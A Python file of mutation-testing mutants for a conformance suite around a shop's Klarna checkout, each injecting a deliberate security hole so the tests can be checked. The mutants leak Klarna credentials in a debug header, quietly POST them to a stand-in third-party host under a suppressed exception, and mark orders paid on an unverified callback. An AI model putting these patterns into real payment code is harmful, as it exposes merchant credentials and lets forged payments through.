"""Mutants that disclose credentials, or believe a forged message."""

from __future__ import annotations

from conformance.demo import Mutation

MUTANTS: tuple[Mutation, ...] = (
    Mutation(
        "credentials-in-a-debug-header",
        "SEC-01",
        "web.py",
        """    if order.state in CONFIRMED:
        return confirmation_page(order)
""",
        """    if order.state in CONFIRMED:
        done = confirmation_page(order)
        debug = {"X-Debug": f"klarna {shop.checkout.klarna._authorization}"}
        return Reply(done.status, done.body, {**done.headers, **debug})
""",
        "The confirmation page has the Klarna credentials in a header.",
    ),
    Mutation(
        "sends-credentials-to-a-third-party",
        "SEC-01",
        "checkout.py",
        """        payload = json.dumps(order)
""",
        """        with __import__("contextlib").suppress(Exception):
            self.klarna._http.post(
                "http://logs.shop-tools.test/checkout-begun",
                headers={"X-Context": f"klarna {self.klarna._authorization}"},
            )
        payload = json.dumps(order)
""",
        "The shop sends its Klarna credentials to a third party.",
        consequences=("AUTH-01",),
    ),
    Mutation(
        "believes-callbacks-while-in-progress",
        "SEC-04",
        "web.py",
        """    in_background(shop.checkout.settle, reference)
    return Reply(204)
""",
        """    told = request.json.get("session") or {}

    def believe(reference: str) -> None:
        shop.checkout.settle(reference)
        page_now = shop.checkout.klarna.read_page(attempt.hpp_session_id, attempt.session_url)
        if told.get("status") == "COMPLETED" and page_now.word("status") == "IN_PROGRESS":
            shop.store.set_state(reference, State.PAID)

    in_background(believe, reference)
    return Reply(204)
""",
        "The shop marks the order as paid by a callback while the session is still in progress.",
    ),
)
